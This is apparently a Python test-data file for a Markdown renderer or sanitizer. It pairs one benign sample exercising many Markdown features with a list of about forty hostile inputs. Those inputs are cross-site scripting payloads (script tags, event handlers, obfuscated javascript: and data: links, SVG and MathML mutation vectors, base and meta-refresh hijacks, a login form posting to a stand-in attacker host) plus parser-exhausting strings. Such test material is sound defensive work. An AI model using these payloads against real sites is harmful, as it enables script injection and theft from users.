"""Texts for the page's Markdown: one with everything, and hostile ones."""

DOCUMENT = r"""Here is **w0 w1**, *w2*, ~~w3~~, `w4 w5` and a [w6 w7](https://example.com/w "title") w8.

# w9 w10
Text w11\* w12 &amp; w13 &copy; w14
w15 w16<br>w17 H<sub>w18</sub>:
- w19 w20
- **w21:** w22
  - w23 `w24`
    w25

  w26
1. w27
2. w28
   ```python
   def w29(w30):  # w31
       return "w32"
   ```
3. w33

> w34 **w35
> w36** w37
> - w38

| w39 | `w40` | w41 \| w42 |
|:----|:-----:|---:|
| w43 | **w44** w44b | w45 |
| w46 | w47 | [w48](http://x.example) |

Setext w49
==========

    w50 indented

---
```js
const w51 = `w52`; // w53
```
See https://example.com/w54 and <https://example.com/w55>, ![w56](picture.png) w57 "w58" ***w59*** _w60_ snake_w61_case
2 * 3 * w62 ![x](y

Last w63 **w64 `w65`**
"""

_RUN = "window.ran = 1"
HOSTILE_TEXTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src=https://evil.example/x.png><img/src=x/onerror={_RUN}>",
    f"<svg onload='{_RUN}'><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x"></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror={_RUN}>'>",
    f'<math href="javascript:{_RUN}">x</math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">y',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
    '<p style="background: url(https://evil.example/x.png); position: fixed; inset: 0">covered</p>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">relative</a>',
    f"<form action='https://evil.example/'><input name=key><button formaction='javascript:{_RUN}'>Log in</form>",
    f"<body onload='{_RUN}'><details open ontoggle='{_RUN}'><summary>x</summary></details>",
    f"<video autoplay onplay='{_RUN}'><source src=https://evil.example/x.mp4 onerror='{_RUN}'></video>",
    f"<input autofocus onfocus='{_RUN}'><marquee onstart='{_RUN}'>x</marquee>",
    f"<br onclick='{_RUN}'><sub style='color: red' onmouseover='{_RUN}'>x</sub><b/onclick={_RUN}>y</b>",
    f"<!-- <img src=x onerror={_RUN}> --><!--><img src=x onerror={_RUN}>--><![CDATA[<script>{_RUN}</script>]]>",
    f"<template><script>{_RUN}</script></template><noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</span></code></pre></div></body></html><script>{_RUN}</script>",
    f"[x](javascript:{_RUN}) [y](JaVaScRiPt:{_RUN}) [z](vbscript:x) <javascript:{_RUN}>",
    f"[x](&#106;avascript:{_RUN}) [y](java&Tab;script:{_RUN}) [z](\x01javascript:{_RUN}) [w](javascript&colon;{_RUN})",
    f"[x](<java\nscript:{_RUN}>) [y](%6Aavascript:{_RUN}) [z]( javascript:{_RUN} ) [w](​javascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>) ![y](data:image/svg+xml;base64,PHN2Zy8+) [z](blob:x) [w](file:///etc)",
    f"[x][1] [y][2]\n\n[1]: javascript:{_RUN}\n[2]: data:text/html;base64,PHNjcmlwdD4=",
    f'[x](https://ok.example "onmouseover={_RUN}") [y](https://ok.example "\'><img src=x onerror={_RUN}>")',
    f"![x](https://evil.example/x.png) ![y](//evil.example/y.png 'z') [![w](https://evil.example/w.png)](javascript:{_RUN})",
    f'```html" onclick="{_RUN}\n<script>{_RUN}</script>\n```',
    f"```\"><img/src=x/onerror={_RUN}>\ncode\n```\n~~~constructor\nx\n~~~\n~~~__proto__\ny\n~~~",
    f"`<img src=x onerror={_RUN}>` ``<script>{_RUN}</script>`` <b>`</b>`",
    f"| <img src=x onerror={_RUN}> | [x](javascript:{_RUN}) |\n|:-:|-|\n| <script>{_RUN}</script> | `</td>` |",
    f"# <img src=x onerror={_RUN}>\n- <script>{_RUN}</script>\n> <iframe src=javascript:{_RUN}></iframe>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62; &NotANentity; &#0; &#x110000;",
    f"\u202e<tpircs>\u202c \ufeff<script\ufeff>{_RUN}</script> ＜script＞{_RUN}＜/script＞ \u2028\u2029\x00\x0b\ud800 x\udfff",
    '<span data-text="0">x</span><span class="corrected">y</span><code data-text="7">z</code> <a id=rejected name=status>w</a>',
    ">" * 3000 + " x\n" + "- " * 3000 + "y\n" + "*" * 20000 + "z" + "[" * 5000 + "](" * 5000,
    "**_" * 3000 + "`" * 3001 + "<b>" * 3000 + "x" + "\n" + "| a " * 2000 + "\n" + " " * 20000 + "y",
]
